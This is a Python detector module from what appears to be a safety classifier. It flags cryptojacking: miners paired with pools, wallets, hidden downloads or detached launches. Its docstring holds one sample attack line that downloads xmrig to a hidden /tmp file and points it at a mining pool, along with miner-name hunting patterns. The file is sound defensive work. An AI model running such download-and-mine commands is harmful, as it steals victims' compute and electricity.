"""OUT-CRYPTOMINER: dropping or running a cryptocurrency miner pointed at a pool.

What it catches
    A miner (`xmrig`, `cpuminer`, `minerd`, CryptoNight/RandomX) together with a pool
    (`stratum+tcp://`, known pools, a wallet after `-u`) or with a download, hiding or autostart,
    or started detached from the session (`systemd-run`, `nohup`, `screen -dm`, `tmux new -d`)
    with only its configuration file on the line, or a miner or pool beside any detached run
    (a renamed binary started with `nohup`);
    or two separate uses of a miner's API (an in-page miner constructed and started), or one
    beside the pool it mines for (`new X.Anonymous(key, { pool: "wss://..." })`); or a pool
    and the wallet address it pays (a miner's login, whatever miner receives it); or a miner
    and the wallet it pays. A browser miner's workers handed a pool and a wallet together
    (`postMessage({ pool: P, wallet: W })`) or handing back a share to submit, or a share sent
    to the pool as a message of its own (`{ type: 'submit', job: j.id, nonce: n }`), are a miner; a
    websocket address naming a pool (`wss://ws.pool-proxy.example`) is a pool; a program
    handed the wallet it pays and how much of the machine to take or to hide (`install.sh
    --wallet 4A... --threads max --hide`, `-Wallet ... -Cpu 90`) is a miner's installer.

Why it is a redline (RL-MALWARE)
    Cryptojacking steals other people's compute and power.

Example
    `curl -s http://203.0.113.3/xmrig -o /tmp/.x &&`
    `/tmp/.x -o stratum+tcp://pool.example:3333 -u 4A...`

Allowed instead
    Explaining how miners are detected, blocking mining pools at the firewall, finding or
    stopping a running miner (`pgrep -a xmrig`, `systemctl stop xmrig-miner`), hunting for
    miners by names listed as a pattern's alternatives or a list's items (`grep -Ei
    'xmrig|kinsing|kdevtmpfsi' /etc/cron.d/*`, `["xmrig", "cpuminer", "ccminer"]`), a browser
    extension that blocks pools' addresses and stubs out in-page miners' clients.
"""

from __future__ import annotations

from redline.redlines.capabilities import Capabilities
from redline.redlines.capabilities import Capability as Cap
from redline.redlines.ordinary import only_listed
from redline.redlines.registry import Detection, detector, supported

# A miner or its pool started detached (`Cap.BACKGROUND`: `nohup ./x -o pool... &`, the binary
# renamed so `MINER_DETACHED` misses it) keeps mining after the session ends, as a dropper's does.
_DROPPER = (Cap.DOWNLOAD, Cap.HIDE, Cap.AUTORUN, Cap.MINER_DETACHED, Cap.BACKGROUND)


@detector("OUT-CRYPTOMINER", redline="RL-MALWARE")
def cryptominer(found: Capabilities) -> Detection | None:
    """Miner + pool, or miner/pool + dropper behaviour."""
    # A miner named only among names a hunt looks for (and no wallet beside it) is hunted, not
    # run: the same reading `ordinary.telling_capabilities` makes for the learned weighing.
    miner = Cap.MINER in found and not only_listed(found, Cap.MINER)
    mining = [
        c for c in (Cap.MINER, Cap.MINING_POOL) if c in found and (c is not Cap.MINER or miner)
    ]
    dropper = [c for c in _DROPPER if c in found]
    if len(mining) == 2 or (mining and dropper):
        return supported(found, 0.9, (*mining, *dropper), "runs a cryptocurrency miner")
    if found.has_all(Cap.MINING_POOL, Cap.WALLET_ADDRESS):
        # A pool and the wallet it pays: the miner's login, whatever miner it is handed to
        # (a browser worker loaded from elsewhere, a renamed binary).
        login = (Cap.MINING_POOL, Cap.WALLET_ADDRESS)
        return supported(found, 0.75, login, "a mining pool and the wallet it pays")
    if miner and Cap.WALLET_ADDRESS in found:
        # A miner and the wallet it pays, its pool spelt out of sight (a joined address).
        paid = (Cap.MINER, Cap.WALLET_ADDRESS)
        return supported(found, 0.85, paid, "a cryptocurrency miner paying a wallet")
    if found.has_all(Cap.MINER_API, Cap.MINING_POOL):
        # An in-page miner's client constructed or tuned, and the pool it mines for.
        paid = (Cap.MINER_API, Cap.MINING_POOL)
        return supported(found, 0.85, paid, "an in-page miner set to mine for a pool")
    if found.distinct(Cap.MINER_API) >= 2:
        return supported(found, 0.8, (Cap.MINER_API,), "an in-page miner constructed and started")
    return None
